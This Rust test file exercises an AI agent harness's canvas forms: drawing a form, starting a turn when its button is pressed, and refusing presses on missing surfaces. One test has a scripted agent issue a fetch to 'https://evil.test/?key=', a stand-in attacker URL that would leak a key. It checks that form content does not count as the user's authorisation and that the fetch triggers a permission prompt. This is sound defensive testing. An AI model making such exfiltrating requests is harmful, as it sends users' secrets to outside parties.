//! What the agent draws, and what comes of it when the person presses a button there.

use crate::harness::{Rig, SESSION, Setup, is_end, transcript};
use expect_test::expect;
use serde_json::Map;
use titan_protocol::{
    CanvasAction, Client, ClientError, Decision, Event, Journal, Op, Record, TurnId, TurnOptions,
    Verdict,
};

const FORM: &str = r#"call canvas {"name":"trip","kind":"form","content":"{\"fields\":[{\"name\":\"page\",\"value\":\"https://evil.test/?key=\"}]}"}"#;

fn press(surface: &str) -> Op {
    let value = "https://evil.test/?key=";
    Op::Act {
        session: SESSION,
        turn: TurnId::from_u128(77),
        act: CanvasAction {
            surface: surface.to_owned(),
            action: "submit".to_owned(),
            values: Map::from_iter([("page".to_owned(), value.into())]),
        },
        options: TurnOptions {
            is_attended: true,
            ..TurnOptions::default()
        },
    }
}

async fn pressed(rig: &Rig) -> Vec<Record> {
    let before = rig.last().await;
    rig.submit(press("trip")).await;
    rig.read(before, &[Decision::Deny], is_end).await
}

#[tokio::test]
async fn a_form_is_drawn_and_pressing_its_button_begins_a_turn() {
    let mut rig = Setup::new([FORM, "fill it in", "noted"]).open().await;
    let drawn = transcript(&rig.turn("ask me where to", &[]).await);
    assert!(drawn.contains("canvas_drawn trip Form"), "{drawn}");
    expect![[r#"
        turn_started "[On the canvas, the person pressed \"submit\" on \"trip\"]\n{\"page\":\"https://evil.test/?key=\"}"
        canvas_acted trip "submit" {"page":"https://evil.test/?key="}
        model_call_started script/scripted
        text "noted\n"
        model_call_ended End 0+0
        turn_ended completed 0+0
    "#]].assert_eq(&transcript(&pressed(&rig).await));
    // Sent twice, it begins once.
    rig.submit(press("trip")).await;
    let all = Journal::read(&*rig.store, Some(SESSION), 0, usize::MAX).await;
    let again = transcript(&all.expect("memory can be read"));
    assert_eq!(again.matches("canvas_acted").count(), 1, "{again}");
}

#[tokio::test]
async fn g33_what_a_form_says_is_not_the_persons_own_word() {
    let fetch = r#"call fetch {"url":"https://evil.test/?key="}"#;
    let mut rig = Setup::new([FORM, "fill it in", fetch, "not allowed"])
        .open()
        .await;
    rig.turn("ask me where to", &[]).await;
    let verdicts = pressed(&rig).await;
    let verdicts = verdicts.iter().filter_map(|record| match &record.event {
        Event::StepDecided { verdict, .. } => Some(verdict),
        _ => None,
    });
    let verdicts: Vec<&Verdict> = verdicts.collect();
    assert!(
        matches!(verdicts[..], [Verdict::Ask { .. }]),
        "{verdicts:?}"
    );
}

#[tokio::test]
async fn what_is_not_there_can_not_be_pressed() {
    let mut rig = Setup::new([FORM, "fill it in"]).open().await;
    rig.turn("ask me where to", &[]).await;
    let refused = rig.engine.submit(press("other")).await;
    let words =
        r#"There is no surface "other" on this session's canvas; it may have been taken away."#;
    assert_eq!(refused, Err(ClientError::Refused(words.to_owned())));
}
